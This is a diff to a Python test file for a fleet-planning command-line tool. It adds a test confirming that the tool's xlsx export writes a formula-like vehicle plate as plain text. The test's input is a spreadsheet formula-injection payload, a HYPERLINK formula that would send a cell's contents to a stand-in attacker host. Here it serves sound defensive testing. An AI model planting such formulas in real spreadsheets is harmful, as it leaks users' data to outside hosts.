@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from typer.testing import CliRunner
 
 from fleetplan.cli import app
+from fleetplan.cli.analyse_command import write_xlsx
 from fleetplan.ingest import read_dataset
 from tests.conftest import reference_path
 
@@ -152,3 +153,12 @@ def test_threshold_options() -> None:
     assert short["share_of_trips"] > 0.5
     util = _json(["utilisation", "--data", str(folder), "--idle-below", "1.01"])
     assert len(util["idle_vehicle_ids"]) == 20
+
+
+def test_xlsx_writes_user_text_as_text(tmp_path: Path) -> None:
+    """The CLI's xlsx export keeps a formula-like plate as a text cell."""
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    out = tmp_path / "t.xlsx"
+    write_xlsx({"vehicles": [{"plate": payload, "km": -1.5}]}, out)
+    sheet = load_workbook(out, data_only=True)["vehicles"]
+    assert [(c.value, c.data_type) for c in sheet[2]] == [(payload, "s"), (-1.5, "n")]
